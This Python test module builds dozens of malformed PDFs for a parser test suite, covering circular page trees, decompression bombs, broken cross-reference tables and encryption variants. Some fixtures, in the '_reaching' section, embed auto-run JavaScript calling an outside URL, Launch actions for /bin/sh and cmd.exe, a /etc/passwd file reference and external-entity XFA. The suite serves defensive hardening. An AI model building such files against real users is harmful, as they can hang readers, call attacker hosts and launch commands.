"""PDFs: pages and objects in circles, streams that unfold, what would start or call something. ISO 32000-2 names them."""

# ruff: noqa: E501 (long lines here are the content of files)
from __future__ import annotations

import zlib
from collections.abc import Iterator

from tests.hostile.golden import good
from tests.hostile.packed import zlib_of_nothing

PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
WORDS = b"BT /F 12 Tf 20 200 Td (INVENTED words) Tj ET"
FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def stream(data: bytes, more: str = "", length: int | None = None) -> bytes:
    """A stream object's content; ``length`` is written instead of the true one."""
    return (
        f"<<{more}/Length {len(data) if length is None else length}>>".encode() + b"\nstream\n" + data + b"\nendstream"
    )


def pdf(*changed: tuple[int, str | bytes], trailer: str = "", start: int | None = None) -> bytes:
    """A PDF of one page; objects are changed or added by number, what is written in the trailer comes last."""
    objects: dict[int, str | bytes] = {
        1: "<</Type/Catalog/Pages 2 0 R>>",
        2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: PAGE,
        4: stream(WORDS),
        5: FONT,
    }
    objects.update(changed)
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, one in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + (one.encode() if isinstance(one, str) else one) + b"\nendobj\n"
    at, size = len(out), max(objects) + 1
    out += b"xref\n0 1\n0000000000 65535 f \n" + b"".join(b"%d 1\n%010d 00000 n \n" % each for each in places.items())
    return (
        bytes(out)
        + f"trailer\n<</Size {size}/Root 1 0 R{trailer}>>\nstartxref\n{at if start is None else start}\n%%EOF\n".encode()
    )


def files(_seed: int, url: str) -> Iterator[tuple[str, bytes]]:
    """Every one of them."""
    for name, data in {**_trees(), **_streams(), **_tables(), **_reaching(url), **_text(), **_locked()}.items():
        yield f"pdf/{name}.pdf", data


def _trees() -> dict[str, bytes]:
    kids = "".join("3 0 R " for _ in range(100_000))
    deep = [
        (number, f"<</Type/Pages/Kids[{number + 1} 0 R]/Count 1/Parent {number - 1} 0 R>>")
        for number in range(10, 5_010)
    ]
    return {
        "kids-themselves": pdf((2, "<</Type/Pages/Kids[2 0 R]/Count 1>>")),
        "kids-in-a-circle": pdf((2, "<</Type/Pages/Kids[6 0 R]/Count 9>>"), (6, "<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 9>>")),
        "kids-100000": pdf((2, f"<</Type/Pages/Kids[{kids}]/Count 100000>>")),
        "kids-19000": pdf((2, f"<</Type/Pages/Kids[{'3 0 R ' * 19_000}]/Count 19000>>")),
        "count-beyond": pdf((2, "<</Type/Pages/Kids[3 0 R]/Count 2147483647>>")),
        "count-19999": pdf((2, "<</Type/Pages/Kids[3 0 R]/Count 19999>>")),
        "count-negative": pdf((2, "<</Type/Pages/Kids[3 0 R]/Count -5>>")),
        "kids-deep": pdf((2, "<</Type/Pages/Kids[10 0 R]/Count 1>>"), *deep, (5_010, PAGE)),
        "parents-in-a-circle": pdf((3, PAGE.replace("/Parent 2 0 R", "/Parent 3 0 R").replace("/MediaBox[0 0 300 300]", ""))),
        "no-pages": pdf((2, "<</Type/Pages/Kids[]/Count 0>>")),
        "catalog-itself": pdf((1, "1 0 R")),
        "outlines": pdf((1, "<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>>"), (6, "<</First 6 0 R/Last 6 0 R/Next 6 0 R/Prev 6 0 R/Title(x)>>")),
        "names": pdf((1, "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 6 0 R>>>>"), (6, "<</Kids[6 0 R 6 0 R]/Names[(a) 6 0 R]>>")),
        "files-100000": pdf((1, "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[" + "(a) 6 0 R " * 100_000 + "]>>>>>>"), (6, "<</Type/Filespec/F(../../a.txt)/EF<</F 4 0 R>>>>")),
        "structure": pdf((1, "<</Type/Catalog/Pages 2 0 R/StructTreeRoot 6 0 R>>"), (6, "<</Type/StructTreeRoot/K 6 0 R>>")),
        "notes": pdf((3, PAGE.replace("/Parent", "/Annots[" + "6 0 R " * 50_000 + "]/Parent")), (6, "<</Type/Annot/Subtype/Text/Rect[0 0 1 1]/Contents(INVENTED)/Popup 6 0 R/IRT 6 0 R>>")),
        "layers": pdf((1, "<</Type/Catalog/Pages 2 0 R/OCProperties<</OCGs[6 0 R]/D<</Order[7 0 R]>>>>>>"), (7, "[7 0 R]")),
        "arrays-deep": pdf((6, "[" * 200_000 + "]" * 200_000), (3, PAGE.replace("/Parent", "/X 6 0 R/Parent"))),
        "arrays-deep-as-box": pdf((3, PAGE.replace("[0 0 300 300]", "[" * 100_000))),
    }  # fmt: skip


def _streams() -> dict[str, bytes]:
    bomb = zlib_of_nothing(300)
    twice = zlib.compress(zlib_of_nothing(500), 9)
    form = stream(b"/X Do /X Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    forms = [
        (
            number,
            stream(
                b"/X Do " * 10, f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {number + 1} 0 R>>>>"
            ),
        )
        for number in range(6, 26)
    ]
    drawn = PAGE.replace("/Font", "/XObject<</X 6 0 R>>/Font")
    picture = "/Type/XObject/Subtype/Image/Width {0}/Height {0}/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/{1}"
    return {
        "stream-bomb": pdf((4, stream(bomb, "/Filter/FlateDecode"))),
        "stream-bomb-twice": pdf((4, stream(twice, "/Filter[/FlateDecode/FlateDecode]"))),
        "filters-1000": pdf((4, stream(WORDS, "/Filter[" + "/ASCIIHexDecode" * 1_000 + "]"))),
        "filter-lengths": pdf((4, stream(WORDS, "/Filter/RunLengthDecode")), (6, stream(b"\x81a" * 1_000_000))),
        "predictor": pdf((4, stream(bomb[:5_000], "/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 2147483647>>"))),
        "lzw": pdf((4, stream(b"\x80\x0b\x60\x50" * 100_000, "/Filter/LZWDecode/DecodeParms<</EarlyChange -9>>"))),
        "length-beyond": pdf((4, stream(WORDS, length=2_147_483_647))),
        "length-negative": pdf((4, stream(WORDS, length=-1))),
        "length-itself": pdf((4, b"<</Length 4 0 R>>\nstream\n" + WORDS + b"\nendstream")),
        "saves": pdf((4, stream(b"q " * 5_000_000 + WORDS))),
        "forms-themselves": pdf((3, drawn), (4, stream(b"/X Do " + WORDS)), (6, form)),
        "forms-10-to-20": pdf((3, drawn), (4, stream(b"/X Do " + WORDS)), *forms, (26, form)),
        "picture-jbig2": pdf((3, drawn), (4, stream(b"/X Do " + WORDS)), (6, stream(b"\x00\x00\x00\x00\x30\x00\x01\x00\x00\x00\x13\xff\xff\xff\xff\xff\xff\xff\xff" + bytes(20), picture.format(100_000, "JBIG2Decode")))),
        "picture-jpx": pdf((3, drawn), (4, stream(b"/X Do " + WORDS)), (6, stream(b"\xff\x4f\xff\x51\x00\x29\x00\x00" + b"\xff" * 32, picture.format(100_000, "JPXDecode")))),
        "picture-fax": pdf((3, drawn), (4, stream(b"/X Do " + WORDS)), (6, stream(bytes(100), picture.format(100_000, "CCITTFaxDecode")))),
        "picture-none": pdf((3, drawn), (4, stream(b"/X Do " + WORDS)), (6, stream(b"", picture.format(2_147_483_647, "FlateDecode")))),
        "inline-pictures": pdf((4, stream(b"BI /W 99999 /H 99999 /BPC 8 /CS /G ID x EI " * 20_000 + WORDS))),
        "operands": pdf((4, stream(b"1 " * 8_000_000 + WORDS))),
        "strings-deep": pdf((4, stream(b"(" * 2_000_000 + WORDS))),
        "paths": pdf((4, stream(b"0 0 m " + b"9 9 l " * 2_000_000 + b"S " + WORDS))),
        "dictionaries-deep": pdf((4, stream(b"/X " + b"<</A " * 100_000 + b" BDC " + WORDS))),
    }  # fmt: skip


def _tables() -> dict[str, bytes]:
    packed = zlib.compress(b"7 0 8 0 " + b"<</Type/Page>> null ")
    loop = stream(packed, "/Type/ObjStm/N 2/First 8/Extends 6 0 R/Filter/FlateDecode")
    many = stream(zlib.compress(b"1 0 " * 2_000_000), "/Type/ObjStm/N 2147483647/First 4/Filter/FlateDecode")
    whole = pdf()
    at = whole.index(b"xref")
    return {
        "object-streams-in-a-circle": pdf((6, loop), (2, "<</Type/Pages/Kids[7 0 R 3 0 R]/Count 2>>")),
        "object-stream-of-millions": pdf((6, many)),
        "prev-itself": pdf(trailer=f"/Prev {at}"),
        "prev-beyond": pdf(trailer="/Prev 99999999999"),
        "prev-negative": pdf(trailer="/Prev -1"),
        "stream-table-itself": pdf(trailer=f"/XRefStm {at}"),
        "start-beyond": pdf(start=2**40),
        "start-zero": pdf(start=0),
        "size-beyond": pdf(trailer="/Size 2147483647"),
        "xref-entries-beyond": whole.replace(b"xref\n0 1\n", b"xref\n0 2147483647\n"),
        "objects-numbered-high": pdf((8_388_607, "null"), (2_147_483_646, "null")),
        "no-table": whole[:at] + b"%%EOF",
        "10000-ends": whole + b"startxref\n0\n%%EOF\n" * 10_000,
        "200000-objects": pdf(*[(number, "<</A 1 0 R>>") for number in range(6, 200_000)]),
        "header-late": b"x" * 1_000 + whole,
        "two-files": whole + whole,
        "zip-behind": whole + good()["handover.zip"] + b"\n%%EOF",
    }  # fmt: skip


def _reaching(url: str) -> dict[str, bytes]:
    def opening(action: str) -> bytes:
        return pdf((1, f"<</Type/Catalog/Pages 2 0 R/OpenAction {action}/AA<</WC {action}>>>>"))

    form = "<</Fields[6 0 R]/XFA[(a) 7 0 R]/NeedAppearances true>>"
    field = f"<</FT/Btn/T(a)/Kids[6 0 R]/Parent 6 0 R/A<</S/SubmitForm/F({url}form)>>>>"
    xfa = stream(f'<!DOCTYPE a SYSTEM "{url}xfa"><a/>'.encode())
    return {
        "script": opening(f"<</S/JavaScript/JS(app.launchURL\\('{url}js'\\); while\\(true\\){{}})>>"),
        "address": opening(f"<</S/URI/URI({url}uri)>>"),
        "launch": opening("<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
        "other-file": opening(f"<</S/GoToR/F<</FS/URL/F({url}remote)>>/D[0/Fit]>>"),
        "forms": pdf((1, f"<</Type/Catalog/Pages 2 0 R/AcroForm {form}>>"), (6, field), (7, xfa)),
        "outside-stream": pdf((4, stream(b"", f"/F<</FS/URL/F({url}stream)>>"))),
        "outside-file": pdf((4, stream(b"", "/F(/etc/passwd)"))),
        "film": pdf((3, PAGE.replace("/Parent", "/Annots[6 0 R]/Parent")), (6, f"<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F<</FS/URL/F({url}film)>>>>>>")),
        "actions-in-a-circle": pdf((1, "<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>"), (6, "<</S/GoTo/D 6 0 R/Next[6 0 R 6 0 R]>>")),
    }  # fmt: skip


def _text() -> dict[str, bytes]:
    ranges = stream(
        b"/CIDInit /ProcSet findresource begin begincmap 100 beginbfrange "
        + b"<0000> <FFFFFFFF> <0041> " * 100
        + b"endbfrange endcmap"
    )
    glyphs = "<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/Encoding<</Differences[65/A]>>/CharProcs<</A 6 0 R>>/FirstChar 65/LastChar 65/Widths[1]/Resources<</Font<</F 5 0 R>>>>>>"
    wide = PAGE.replace("[0 0 300 300]", "[{}]")
    return {
        "signs-at-one-place": pdf((4, stream(b"BT /F 12 Tf 20 200 Td " + b"(A) Tj 0 0 Td " * 200_000 + b"ET"))),
        "signs-2-million": pdf((4, stream(b"BT /F 1 Tf 20 200 Td (" + b"A" * 2_000_000 + b") Tj ET"))),
        "lines-100000": pdf((4, stream(b"BT /F 1 Tf 20 200 Td " + b"(A) Tj 0 -1 Td " * 100_000 + b"ET"))),
        "scattered": pdf((4, stream(b"BT /F 1 Tf " + b"".join(b"1 0 0 1 %d %d Tm (A) Tj " % (n * 7919 % 9973, n * 104_729 % 9967) for n in range(60_000)) + b"ET"))),
        "map-ranges": pdf((5, FONT[:-2] + "/ToUnicode 6 0 R>>"), (6, ranges)),
        "font-draws-itself": pdf((5, glyphs), (6, stream(b"1 0 d0 BT /F 1 Tf (A) Tj ET")), (4, stream(b"BT /F 9 Tf (AAAA) Tj ET"))),
        "font-itself": pdf((5, "<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[5 0 R]>>")),
        "font-file": pdf((5, FONT[:-2] + "/FontDescriptor<</FontFile2 6 0 R>>>>"), (6, stream(b"\0\1\0\0\xff\xff" + b"\xff" * 500))),
        "matrix": pdf((4, stream(b"BT /F 1e38 Tf 1e38 1e38 -1e38 1e38 1e38 1e38 Tm (A) Tj ET"))),
        "numbers": pdf((4, stream(b"BT /F " + b"9" * 5_000 + b" Tf " + b"-.-.-" * 1_000 + b" 0 Td (A) Tj ET"))),
        "box-nothing": pdf((3, wide.format("0 0 0 0"))),
        "box-huge": pdf((3, wide.format("-1e30 -1e30 1e30 1e30"))),
        "box-turned": pdf((3, wide.format("300 300 0 0").replace("/Parent", "/Rotate 2147483647/UserUnit 1e30/Parent"))),
        "box-words": pdf((3, wide.format("(a) /b null true"))),
        "title": pdf((6, "<</Title(" + "A" * 3_000_000 + ")/CreationDate(D:99999999999999)/Author<FEFFD800D800DC00>>>"), trailer="/Info 6 0 R"),
        "right-to-left": pdf((1, "<</Type/Catalog/Pages 2 0 R/ViewerPreferences<</Direction/R2L>>>>")),
        "right-to-left-in-a-circle": pdf((1, "<</Type/Catalog/Pages 2 0 R/ViewerPreferences<</Direction/R2L>>>>"), (2, "<</Type/Pages/Kids[2 0 R 3 0 R]/Count 5>>")),
    }  # fmt: skip


def _locked() -> dict[str, bytes]:
    keys = f"/O<{'41' * 32}>/U<{'42' * 32}>/P -1/Length 128"
    made = {
        f"locked-{v}-{r}": pdf(trailer=f"/Encrypt<</Filter/Standard/V {v}/R {r}{keys}>>/ID[<00><00>]")
        for v, r in ((1, 2), (2, 3), (4, 4), (5, 5), (5, 6), (99, 99))
    }
    return {
        **made,
        "locked-by-another": pdf(trailer="/Encrypt<</Filter/INVENTED>>"),
        "locked-by-itself": pdf((6, "<</Filter 6 0 R/V 6 0 R>>"), trailer="/Encrypt 6 0 R"),
    }
